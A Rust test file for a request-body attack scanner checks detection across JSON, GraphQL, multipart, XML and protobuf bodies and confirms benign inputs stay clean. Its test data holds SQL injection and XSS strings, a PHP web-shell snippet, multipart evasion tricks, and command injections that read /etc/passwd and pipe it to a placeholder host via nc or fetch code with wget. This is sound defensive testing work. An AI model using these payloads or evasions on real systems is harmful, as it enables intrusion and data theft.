//! Where values are found in bodies of every kind, whatever tricks a body plays, and that honest ones have no findings.

use portcullis_payload::arguments::{self, Request};
use portcullis_payload::{Scanner, Scratch, Settings, Verdict};

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";
const PARTS: &str = "multipart/form-data; boundary=b";

#[allow(clippy::unwrap_used)]
fn inspected(level: u8, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Verdict {
    let scanner = Scanner::new().unwrap();
    let (settings, mut scratch) = (Settings { level, ..Settings::default() }, Scratch::default());
    let headers: Vec<(&[u8], &[u8])> = headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
    let mut inspection = scanner.begin(&settings, &mut scratch);
    let method: &[u8] = if body.is_empty() { b"GET" } else { b"POST" };
    arguments::inspect(&Request { method, target: target.as_bytes(), headers: &headers, body }, &mut inspection);
    inspection.finish()
}

fn posted(kind: &str, body: &str) -> Verdict {
    inspected(1, "/", &[("content-type", kind)], body.as_bytes())
}

fn is_attack(verdict: &Verdict) -> bool {
    verdict.worst().is_some_and(|(_, score)| score >= 5)
}

/// The rule, the place and the name of every finding.
fn found(verdict: &Verdict) -> Vec<String> {
    let text = |name: &[u8]| String::from_utf8_lossy(name).into_owned();
    verdict.findings().iter().map(|f| format!("{} {} {}", f.by.as_str(), f.place.as_str(), text(&f.name))).collect()
}

#[test]
fn every_line_of_ndjson_is_read() {
    let attack = "1' or '1'='1";
    let lines = format!("{{\"index\":{{\"_id\":1}}}}\n{{\"note\":\"{attack}\"}}\n");
    for kind in
        ["application/x-ndjson", "application/jsonl", "application/jsonlines", "application/json-seq", "text/plain", ""]
    {
        let verdict = posted(kind, &lines);
        assert!(found(&verdict).iter().any(|f| f.ends_with("json note")), "{kind}: {:?}", found(&verdict));
        assert!(
            is_attack(&posted(kind, &format!("{{\"a\":1\n{{\"note\":\"{attack}\"}}\n"))),
            "{kind}: behind a damaged line"
        );
        assert!(is_attack(&posted(kind, &format!("\u{1e}{{\"a\":1}}\n\u{1e}{{\"note\":\"{attack}\"}}\n"))), "{kind}");
    }
    assert!(
        posted("application/x-ndjson", "{\"a\":\"it's fine\"}\n{\"b\":[\"O'Brien & Sons\",true,1.5]}\n").is_clean()
    );
}

#[test]
fn what_a_lenient_reader_of_json_takes_is_read() {
    let script = "<script>alert(1)</script>";
    for body in [
        format!("{{'a': '{script}'}}"),
        format!("{{a: {script}}}"),
        format!("{{/* a */\"b\": 1, // {script}\n}}"),
        format!("{{\"a\": `{script}`}}"),
        format!("\u{feff}{{\"a\": \"{script}\"}}"),
        format!("[link]({script})"),
        format!("{{\"a\": \"{script}"),
    ] {
        for kind in [JSON, "text/plain", "application/octet-stream"] {
            assert!(is_attack(&posted(kind, &body)), "{kind}: {body}");
        }
    }
    let wide: Vec<u8> = format!("{{\"a\":\"{script}\"}}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(is_attack(&inspected(1, "/", &[("content-type", JSON)], &wide)));
}

#[test]
fn a_body_of_no_known_type_is_read_as_what_it_looks_like() {
    for kind in ["application/octet-stream", "text/plain", "x/y", ""] {
        for (body, place) in [
            ("{\"a\": \"1' or '1'='1\"}", "json a"),
            ("[\"1' or '1'='1\"]", "json "),
            ("b=1&a=1%27+or+%271%27%3D%271", "form a"),
            ("<r><a>1' or '1'='1</a></r>", "xml a"),
            ("<script>alert(1)</script>", "text "),
            ("mutation { pay(to: \"1' or '1'='1\") { id } }", "json to"),
            ("; cat /etc/passwd | nc evil.example 4444", "text "),
        ] {
            let verdict = posted(kind, body);
            assert!(is_attack(&verdict), "{kind}: {body}");
            assert!(found(&verdict).iter().any(|f| f.ends_with(place)), "{kind}: {body}: {:?}", found(&verdict));
        }
    }
}

#[test]
fn strings_of_graphql_are_arguments() {
    let attack = "1' union select password from users--";
    let document = format!("query Q($n: Int) {{ user(id: \"{attack}\", n: $n) {{ name }} }}");
    let quoted = document.replace('"', "\\\"");
    let escaped: String = document.bytes().map(|b| format!("%{b:02X}")).collect();
    for (what, verdict) in [
        ("application/graphql", posted("application/graphql", &document)),
        ("sniffed", posted("text/plain", &document)),
        ("a member of JSON", posted(JSON, &format!("{{\"query\":\"{quoted}\",\"variables\":{{}}}}"))),
        ("a batch", posted(JSON, &format!("[{{\"query\":\"{{a}}\"}},{{\"query\":\"{quoted}\"}}]"))),
        ("a query", inspected(1, &format!("/graphql?query={escaped}"), &[], b"")),
        ("a form", posted(FORM, &format!("query={escaped}"))),
        (
            "a file beside it",
            posted(
                PARTS,
                &format!(
                    "--b\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{{\"query\":\"{quoted}\"}}\r\n--b--\r\n"
                ),
            ),
        ),
    ] {
        assert!(is_attack(&verdict), "{what}");
        assert!(found(&verdict).iter().any(|f| f.ends_with("json id")), "{what}: {:?}", found(&verdict));
    }
    let block = posted("application/graphql", &format!("{{ find(text: \"\"\"{attack}\"\"\") {{ id }} }}"));
    assert!(found(&block).iter().any(|f| f.ends_with("json text")), "{:?}", found(&block));
    let escape =
        posted("application/graphql", r#"{ find(text: "\u003cscript\u003ealert(1)\u003c/script\u003e") { id } }"#);
    assert!(is_attack(&escape));
}

#[test]
fn variables_of_graphql_are_arguments() {
    let variables = r#"{"input":{"note":"1' or '1'='1"}}"#;
    let escaped: String = variables.bytes().map(|b| format!("%{b:02X}")).collect();
    for verdict in [
        posted(JSON, &format!("{{\"query\":\"{{a}}\",\"variables\":{variables}}}")),
        inspected(1, &format!("/graphql?query=%7Ba%7D&variables={escaped}"), &[], b""),
    ] {
        assert!(found(&verdict).iter().any(|f| f.ends_with("json note")), "{:?}", found(&verdict));
        assert!(is_attack(&verdict));
    }
}

#[test]
fn honest_graphql_has_no_findings() {
    for document in [
        "query ($id: ID!, $first: Int = 10) { user(id: $id) { orders(first: $first, orderBy: {field: DATE, direction: DESC}) \
         { edges { node { id total { amount currency } items { sku } } } pageInfo { hasNextPage endCursor } } } }",
        "mutation CreateOrder($input: OrderInput!) { createOrder(input: $input) { order { id state } errors { field message } } }",
        "query Search { search(query: \"O'Brien & Sons\", type: USER, first: 20) { nodes { ... on User { login } } } }",
        "fragment Names on User { first last }\nquery { me { ...Names } }",
        "subscription OnPaid { orderPaid(shop: \"tea-and-cake\") { id } }",
        "query Many { a: order(id: 1) { id } b: order(id: 2) { id } c: order(id: 3) @include(if: true) { id } }",
        "# The dashboard's query\n{ orders(filter: {state: [OPEN, PAID], since: \"2026-01-01T00:00:00Z\"}) { total } }",
    ] {
        let body = format!("{{\"operationName\":null,\"query\":{},\"variables\":{{\"id\":\"a7\"}}}}", quoted(document));
        let escaped: String = document.bytes().map(|b| format!("%{b:02X}")).collect();
        let headers = [("content-type", JSON)];
        for verdict in [
            inspected(1, "/graphql", &headers, body.as_bytes()),
            inspected(1, "/graphql", &[("content-type", "application/graphql")], document.as_bytes()),
            inspected(1, &format!("/graphql?query={escaped}"), &[], b""),
        ] {
            assert!(verdict.is_clean(), "{document}: {:?}", found(&verdict));
        }
    }
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
}

#[test]
fn what_makes_a_query_expensive_is_evidence() {
    let nested = |depth: usize| format!("{}a{}", "{a".repeat(depth), "}".repeat(depth));
    let aliases =
        |count: usize| format!("{{{}}}", (0..count).map(|i| format!("a{i}: login(pin: {i}) ")).collect::<String>());
    let directives = |count: usize| format!("{{a {}}}", "@b ".repeat(count));
    for (rule, level, document) in [
        ("graphql-depth", 1, nested(21)),
        ("graphql-aliases", 1, aliases(101)),
        ("graphql-directives", 1, directives(51)),
        ("graphql-deep", 2, nested(13)),
        ("graphql-many-aliases", 2, aliases(16)),
        ("graphql-many-directives", 2, directives(11)),
    ] {
        for verdict in [
            inspected(level, "/", &[("content-type", "application/graphql")], document.as_bytes()),
            inspected(level, "/", &[("content-type", JSON)], format!("{{\"query\":{}}}", quoted(&document)).as_bytes()),
        ] {
            assert!(
                found(&verdict).iter().any(|f| f.starts_with(&format!("{rule} "))),
                "{rule}: {:?}",
                found(&verdict)
            );
            assert!(is_attack(&verdict), "{rule}");
        }
    }
    let is_abuse = |verdict: &Verdict| {
        let counted = ["graphql-depth", "graphql-aliases", "graphql-directives", "graphql-batch"];
        found(verdict).iter().any(|f| counted.iter().any(|rule| f.starts_with(&format!("{rule} "))))
    };
    for document in [nested(20), aliases(100), directives(50)] {
        assert!(!is_abuse(&posted("application/graphql", &document)), "{document}");
    }
    let batch = |count: usize| format!("[{}]", vec!["{\"query\":\"{a}\"}"; count].join(","));
    assert!(is_abuse(&posted(JSON, &batch(26))) && !is_abuse(&posted(JSON, &batch(25))));
    // Braces and names with colons in arguments are neither depth nor aliases.
    let input = format!("{{ a(b: {}1{}) {{ id }} }}", "{c: ".repeat(30), "}".repeat(30));
    assert!(!is_abuse(&posted("application/graphql", &input)));
}

#[test]
fn an_attack_cut_over_parameters_of_one_name_is_found() {
    let part = |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n");
    let form = |target: &str, body: &str| inspected(1, target, &[("content-type", FORM)], body.as_bytes());
    let parts = |target: &str, body: &str| inspected(1, target, &[("content-type", PARTS)], body.as_bytes());
    for (first, second) in [
        ("1 union sel", "ect name, pass from users"),
        ("<scr", "ipt src=x>"),
        ("<img src=x one", "rror=top.x>"),
        ("127.0.0.1; wg", "et http://evil.example/x"),
        ("{{7*", "7}}"),
        ("<ifr", "ame src=x>"),
        ("1 or sl", "eep(9)"),
    ] {
        let (one, two) = (escaped(first), escaped(second));
        for alone in [&one, &two] {
            let verdict = inspected(1, &format!("/?q={alone}&p=1"), &[], b"");
            assert!(!is_attack(&verdict), "{alone} alone: {:?}", found(&verdict));
        }
        for (what, verdict) in [
            ("query", inspected(1, &format!("/?q={one}&a=1&q={two}"), &[], b"")),
            ("names in capitals and encoded", inspected(1, &format!("/?q={one}&%51={two}"), &[], b"")),
            ("form", form("/", &format!("q={one}&q={two}"))),
            ("query and form", form(&format!("/?q={one}"), &format!("q={two}"))),
            ("multipart", parts("/", &format!("{}{}--b--\r\n", part(first), part(second)))),
            ("query and multipart", parts(&format!("/?q={one}"), &format!("{}--b--", part(second)))),
            ("no type", inspected(1, "/", &[], format!("q={one}&q={two}").as_bytes())),
        ] {
            assert!(is_attack(&verdict), "{what}: {first} {second}: {:?}", found(&verdict));
        }
    }
    let three = inspected(1, "/?q=1/*&q=*/union/*&q=*/select+7", &[], b"");
    assert!(is_attack(&three), "{:?}", found(&three));
    let cookie = inspected(1, "/", &[("cookie", "q=<scr; a=b; q=ipt src=x>")], b"");
    assert!(is_attack(&cookie), "cookies: {:?}", found(&cookie));
}

fn escaped(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn honest_parameters_of_one_name_have_no_findings() {
    for query in [
        "id=1&id=2&id=3",
        "tag=tea&tag=cake&tag=it%27s+good",
        "filter%5B%5D=price%3A10-20&filter%5B%5D=colour%3Ared",
        "sort=-created&sort=name&fields=id,name&fields=total",
        "q=O%27Brien&q=D%27Arcy&q=don%27t",
        "note=select+a+table&note=from+the+list+below",
        "to=alice%40example.com&to=bob%40example.com",
        "path=/a/b&path=/c/d",
        "expand[]=data.customer&expand[]=data.invoice",
        "text=This+is+fine+%28really%29&text=and+so+is+this%3B+thanks",
        "comment=2+%2B+2+%3D+4&comment=or+so+they+say",
    ] {
        let headers = [("content-type", FORM)];
        for verdict in [inspected(1, &format!("/?{query}"), &[], b""), inspected(1, "/", &headers, query.as_bytes())] {
            assert!(verdict.is_clean(), "{query}: {:?}", found(&verdict));
        }
    }
    // What one of them shows by itself does not count again, nor add up with what another one shows.
    let lines: String = (0..50).map(|i| format!("line=see+http%3A%2F%2Flocalhost%3A{i}+for+more&")).collect();
    assert!(!is_attack(&inspected(1, "/", &[("content-type", FORM)], lines.as_bytes())));
}

#[test]
fn joining_costs_no_more_than_a_multiple() {
    let scanner = Scanner::new().unwrap();
    let steps = |count: usize| {
        let body = "a=union+select+&".repeat(count);
        let (settings, mut scratch) = (Settings::default(), Scratch::default());
        let mut inspection = scanner.begin(&settings, &mut scratch);
        let headers: [(&[u8], &[u8]); 1] = [(b"content-type", FORM.as_bytes())];
        let request = Request { method: b"POST", target: b"/", headers: &headers, body: body.as_bytes() };
        arguments::inspect(&request, &mut inspection);
        inspection.steps()
    };
    let (small, large) = (steps(500), steps(5_000));
    assert!(large <= small.max(2_000) * 10 * 3 / 2, "{small} {large}");
}

#[test]
fn no_trick_of_multipart_hides_a_field() {
    let attack = "1' or '1'='1";
    let head = "Content-Disposition: form-data; name=\"q\"";
    let usual = format!("--b\r\n{head}\r\n\r\n{attack}\r\n--b--\r\n");
    let image = "Content-Type: image/png";
    let pad = "x".repeat(600);
    for (kind, body) in [
        (PARTS, usual.clone()),
        ("multipart/form-data; boundary=\"b\"", usual.clone()),
        ("multipart/form-data;boundary=b;charset=utf-8", usual.clone()),
        ("Multipart/Form-Data; Boundary=b", usual.clone()),
        ("multipart/form-data; boundary='b'", usual.clone()),
        ("multipart/form-data; boundary='b'", usual.replace("--b", "--'b'")),
        ("multipart/form-data; boundary=b,x", usual.clone()),
        ("multipart/form-data; boundary=b,x", usual.replace("--b", "--b,x")),
        ("multipart/form-data; boundary= b", usual.clone()),
        ("multipart/form-data", usual.clone()),
        (PARTS, usual.replace("\r\n", "\n")),
        (PARTS, usual.replace("--b--\r\n", "")),
        (PARTS, usual.replace("\r\n--b--\r\n", "")),
        (PARTS, usual.replace("--b\r\n", "--b  \r\n")),
        (PARTS, usual.replace("; name", ";\r\n name")),
        (PARTS, usual.replace("Content-Disposition: ", "content-DISPOSITION:\r\n\t")),
        (PARTS, usual.replace("Content-Disposition:", "Content-Disposition :")),
        (PARTS, usual.replace("name=\"q\"", "name=q")),
        (PARTS, usual.replace("name=\"q\"", "NAME='q'")),
        (PARTS, usual.replace("name=\"q\"", "name*=utf-8''q")),
        (PARTS, usual.replace("\r\n\r\n1'", "\n\n1'")),
        (PARTS, usual.replace("\r\n\r\n1'", "\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n1'")),
        // Mistaken for a file, only the beginning of it would be read.
        (
            PARTS,
            format!(
                "--b\r\nContent-Disposition: form-data; name=\"q; filename=x\"\r\n{image}\r\n\r\n{pad} {attack}\r\n--b--"
            ),
        ),
        (PARTS, format!("--b\r\n{head}; Filename=\"x\"\r\n{image}\r\n\r\n{pad} {attack}\r\n--b--")),
        (PARTS, format!("--b\r\n{head}; filename=\"\"\r\n{image}\r\n\r\n{pad} {attack}\r\n--b--")),
        (PARTS, format!("--b\r\n{head}; filename*=utf-8''x\r\n{image}\r\n\r\n{pad} {attack}\r\n--b--")),
        // What only some readers take for a delimiter.
        (PARTS, format!("--b\r\n{head}\r\n\r\n1' or --b\r\n'1'='1\r\n--b--\r\n")),
        (PARTS, format!("--b\r\n{head}\r\n\r\n1' or\r\n--bc\r\n'1'='1\r\n--b--\r\n")),
        (PARTS, format!("--b--\r\n{head}\r\n\r\n1\r\n--b\r\n{head}\r\n\r\n{attack}\r\n--b--\r\n")),
        // Around the parts.
        (PARTS, format!("<script>alert(1)</script>\r\n--b\r\n{head}\r\n\r\n1\r\n--b--\r\n")),
        (PARTS, format!("--b\r\n{head}\r\n\r\n1\r\n--b--\r\n<script>alert(1)</script>")),
        // Names that readers differ about.
        (PARTS, usual.replace(attack, "1").replace("name=\"q\"", "name=\"q\"; name=\"<script>alert(1)</script>\"")),
        (PARTS, usual.replace(attack, "1").replace("name=\"q\"", "name=\"q\"; filename=\"a\"; filename=\"a.php\"")),
        (PARTS, usual.replace(attack, "1").replace("name=\"q\"", "name=\"q\"; filename*=utf-8''a%2ephp")),
        (PARTS, usual.replace(attack, "1").replace("name=\"q\"", "name=\"q\"; filename*0=\"a.p\"; filename*1=\"hp\"")),
        (PARTS, usual.replace(attack, "1").replace("name=\"q\"", "name=\"q\"; filename*=utf-7''a")),
        (PARTS, usual.replace(attack, "utf-7").replace("name=\"q\"", "name=\"_charset_\"")),
        ("multipart/form-data; boundary=a; boundary=b", usual.replace(attack, "1")),
        ("multipart/form-data; boundary*0=a; boundary*1=b", usual.replace(attack, "1")),
        (
            PARTS,
            format!(
                "--b\r\n{head}\r\nContent-Type: application/json\r\n\r\n{{\"a\":\"\\u003cscript\\u003ealert(1)\"}}\r\n--b--"
            ),
        ),
    ] {
        let verdict = posted(kind, &body);
        assert!(is_attack(&verdict), "{kind}\n{body}\n{:?}", found(&verdict));
    }
}

#[test]
fn honest_multipart_has_no_findings() {
    let file = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"it is (1).png\"\r\nContent-Type: image/png\r\n\r\n\u{89}PNG\r\n";
    for body in [
        format!("--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nO'Brien & Sons -- tea; cake\r\n{file}--b--\r\n"),
        format!("This is a message with multiple parts in MIME format.\r\n{file}--b--\r\n"),
        "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: application/json\r\n\r\n{\"a\":[1,\"it's\"]}\r\n--b--\r\n".to_owned(),
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"r.pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf\r\n\
         Content-Type: application/pdf\r\n\r\n%PDF\r\n--b--\r\n".to_owned(),
        "--b\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n1\r\n--b\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n2\r\n--b--\r\n".to_owned(),
    ] {
        let verdict = posted(PARTS, &body);
        assert!(verdict.is_clean(), "{body}: {:?}", found(&verdict));
    }
}

#[test]
fn a_text_of_xml_is_read_as_its_reader_gets_it() {
    let kind = "application/xml";
    for body in [
        "<a>1 uni<!-- x -->on sel<![CDATA[ect]]> password from users</a>",
        "<a><![CDATA[<scr]]><![CDATA[ipt>alert(1)]]></a>",
        "<a>1' or<?x y?> '1'='1</a>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>1</a>",
        "<?php system($_GET['c']); ?><a/>",
    ] {
        assert!(is_attack(&posted(kind, body)), "{body}");
    }
    let wide: Vec<u8> = "\u{feff}<a>1' or '1'='1</a>".encode_utf16().flat_map(u16::to_be_bytes).collect();
    assert!(is_attack(&inspected(1, "/", &[("content-type", kind)], &wide)));
    for body in [
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<order id=\"7\"><!-- tea --><name>Tea &amp; Cake</name></order>",
        "<?xml version='1.0' encoding='ISO-8859-1' standalone='yes'?><a>O'Brien</a>",
        "<?xml-stylesheet href=\"a.xsl\"?><a><![CDATA[a < b]]> and more</a>",
    ] {
        let verdict = posted(kind, body);
        assert!(verdict.is_clean(), "{body}: {:?}", found(&verdict));
    }
}

/// A field of a message that holds text, or a message.
fn field(number: u8, content: &[u8]) -> Vec<u8> {
    #[allow(clippy::cast_possible_truncation)]
    let length = [0x80 | (content.len() & 0x7f) as u8, (content.len() >> 7) as u8];
    [&[number << 3 | 2][..], &length, content].concat()
}

#[test]
fn texts_in_protocol_buffers_are_values() {
    let attack = b"1' or '1'='1";
    for (message, name) in [
        (field(1, attack), "json 1"),
        ([&b"\x08\x96\x01"[..], &field(3, &field(2, attack))].concat(), "json 3.2"),
        ([field(1, b"tea"), field(2, &field(1, &field(15, attack)))].concat(), "json 2.1.15"),
        // Cut off behind it.
        ([field(1, attack), b"\x12\x20ab".to_vec()].concat(), "json 1"),
        (attack.to_vec(), "text "),
    ] {
        for kind in ["application/grpc", "application/grpc+proto", "application/grpc; a=b"] {
            let verdict = inspected(1, "/", &[("content-type", kind)], &message);
            assert!(is_attack(&verdict), "{kind}: {message:?}");
            assert!(found(&verdict).iter().any(|f| f.ends_with(name)), "{name}: {:?}", found(&verdict));
        }
    }
    let json = posted("application/grpc+json", "{\"a\": \"1' or '1'='1\"}");
    assert!(found(&json).iter().any(|f| f.ends_with("json a")), "{:?}", found(&json));
    for honest in [
        vec![],
        b"\x08\x96\x01\x15\0\0\x80\x3f".to_vec(),
        [field(1, b"O'Brien & Sons"), field(2, &field(1, b"alice@example.com")), field(3, &[0xff, 0xfe, 0, 1])]
            .concat(),
        field(1, "\u{1f600} tea; cake -- and more".as_bytes()),
    ] {
        let verdict = inspected(1, "/", &[("content-type", "application/grpc")], &honest);
        assert!(verdict.is_clean(), "{honest:?}: {:?}", found(&verdict));
    }
}
